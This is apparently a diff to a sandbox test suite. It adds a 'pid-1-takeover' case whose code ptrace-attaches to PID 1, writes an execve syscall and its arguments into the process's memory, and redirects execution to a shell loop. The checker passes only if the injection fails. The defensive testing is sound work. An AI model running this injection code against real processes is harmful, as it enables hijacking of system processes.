@@ -206,6 +206,57 @@ def _symlink(ctx: Context) -> str:
     """
 
 
+def take_over_pid1(ctx: Context) -> str:
+    """Make PID 1 ``execve`` a shell loop carrying the marker: attach with ptrace, poke a
+    ``syscall`` instruction and execve's arguments at its instruction pointer, set the
+    registers, detach. A PID 1 that can be traced becomes the payload (and an init that the
+    after-command kill spares keeps it alive). x86-64 only; elsewhere it reports "no-arch"."""
+    return f"""
+        import ctypes, os, platform, struct, time
+        libc = ctypes.CDLL(None, use_errno=True)
+        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+        libc.ptrace.restype = ctypes.c_long
+        NAMES = ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs "
+                 "eflags rsp ss fs_base gs_base ds es fs gs").split()
+
+        class Regs(ctypes.Structure):
+            _fields_ = [(n, ctypes.c_ulonglong) for n in NAMES]
+
+        def take_over(pid, cmd):
+            if platform.machine() != "x86_64":
+                return "no-arch"
+            if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
+                return f"attach refused {{ctypes.get_errno()}}"
+            os.waitpid(pid, 0x40000000)  # __WALL
+            regs = Regs()
+            libc.ptrace(12, pid, None, ctypes.byref(regs))  # PTRACE_GETREGS
+            blob, addrs = bytearray(b"\\x0f\\x05" + b"\\x90" * 6), []  # syscall; nops
+            for s in (b"/bin/sh", b"-c", cmd.encode()):
+                addrs.append(regs.rip + len(blob))
+                blob += s + b"\\0" * (8 - len(s) % 8)
+            argv_at = regs.rip + len(blob)
+            blob += struct.pack("<4Q", *addrs, 0)
+            for off in range(0, len(blob), 8):
+                word = struct.unpack("<Q", bytes(blob[off:off + 8]))[0]
+                libc.ptrace(5, pid, ctypes.c_void_p(regs.rip + off), ctypes.c_void_p(word))
+            regs.rax, regs.rdi, regs.rsi, regs.rdx = 59, addrs[0], argv_at, 0  # execve
+            regs.orig_rax = (1 << 64) - 1  # no syscall restart
+            libc.ptrace(13, pid, None, ctypes.byref(regs))  # PTRACE_SETREGS
+            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
+            return "injected"
+
+        print("ATTEMPT", take_over(1, "while :; do sleep 1; done; : {ctx.marker}"))
+        time.sleep(0.5)
+        print("PID1", open("/proc/1/cmdline", "rb").read().replace(b"\\0", b" ").decode())
+    """
+
+
+def _check_pid1_kept(r: ExecResult, ctx: Context) -> None:
+    assert "ATTEMPT" in r.stdout and "PID1" in r.stdout, (r.stdout, r.stderr)
+    assert "ATTEMPT injected" not in r.stdout, r.stdout
+    assert ctx.marker not in r.stdout, r.stdout
+
+
 CASES = [
     Case("network-and-dns", _net, _check_net, needs=("network",)),
     Case("write-outside-workspace", _write_out, _check_write_out, needs=("filesystem",)),
@@ -219,6 +270,7 @@ CASES = [
     Case("gigabyte-of-output", _flood, _check_flood, limits={"output_bytes": 64 * 1024}),
     Case("daemon-outlives-parent", _daemon, _check_daemon, needs=("process_tree_kill",)),
     Case("symlink-to-host-file", _symlink, _check_env_home, needs=("filesystem",)),
+    Case("pid-1-takeover", take_over_pid1, _check_pid1_kept, needs=("unprivileged_user",)),
 ]
 
 
